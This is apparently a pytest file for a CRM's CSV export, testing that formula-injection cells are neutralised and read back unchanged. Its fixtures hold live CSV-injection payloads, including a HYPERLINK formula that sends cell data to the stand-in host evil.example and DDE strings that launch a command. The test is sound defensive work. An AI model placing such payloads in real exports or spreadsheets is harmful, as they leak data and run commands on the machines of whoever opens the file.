"""CSV injection (OWASP): no exported cell is one a spreadsheet runs as a formula, in every
export format, and the export still reads back unchanged."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy import delete
from sqlalchemy.orm import Session, sessionmaker

from ridercrm.db import session_scope
from ridercrm.people import service as people_service
from ridercrm.people.models import CONTACT, Person, PersonKey
from ridercrm.people.schemas import PersonCreate
from ridercrm.products.models import Product
from ridercrm.products.schemas import ProductCreate
from ridercrm.products.service import create_product
from ridercrm.transfer.cells import neutralise, restore
from tests.transfer.helpers import cli, people, products

PLANTED = {
    "first_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "last_name": "-2+3+cmd|' /C calc'!A0",
    "street": "@SUM(1+1)*cmd|' /C calc'!A0",
    "city": "+1+1",
    "state": "'=already quoted",
    "country": "\t=1+1",
}


@pytest.mark.parametrize("form", ["ours", "salesforce"])
def test_exported_cells_never_start_a_formula_and_read_back_unchanged(
    db_url: str, tmp_path: Path, sessions: sessionmaker[Session], form: str
) -> None:
    with session_scope(sessions, write=True) as session:
        people_service.create_person(session, kind=CONTACT, data=PersonCreate(**PLANTED))
        create_product(session, data=ProductCreate(name="=1+1", code="@EVIL", price="249.00"))
    people_before, products_before = people(sessions), products(sessions)
    files = {}
    for kind in ("contacts", "products"):
        files[kind] = tmp_path / f"{kind}.csv"
        result = cli(db_url, "export", kind, "--output", str(files[kind]), "--format", form)
        assert result.exit_code == 0, result.output
        with files[kind].open(newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert dangerous == []
    with session_scope(sessions, write=True) as session:
        session.execute(delete(PersonKey))  # no cascade: keys go with their people
        session.execute(delete(Person))
        session.execute(delete(Product))
    for kind in ("products", "contacts"):
        result = cli(db_url, "import", kind, str(files[kind]))
        assert result.exit_code == 0, result.output
    assert people(sessions) == people_before
    assert products(sessions) == products_before


@pytest.mark.parametrize(
    "value", ["", "a", "'", "''", "'a", "'=", "=", "==1", "'''=", "-", "+61412345678", "\r\n"]
)
def test_a_neutralised_cell_restores_to_its_value(value: str) -> None:
    assert restore(neutralise(value)) == value
    assert neutralise(value)[:1] not in ("=", "+", "-", "@", "\t", "\r")
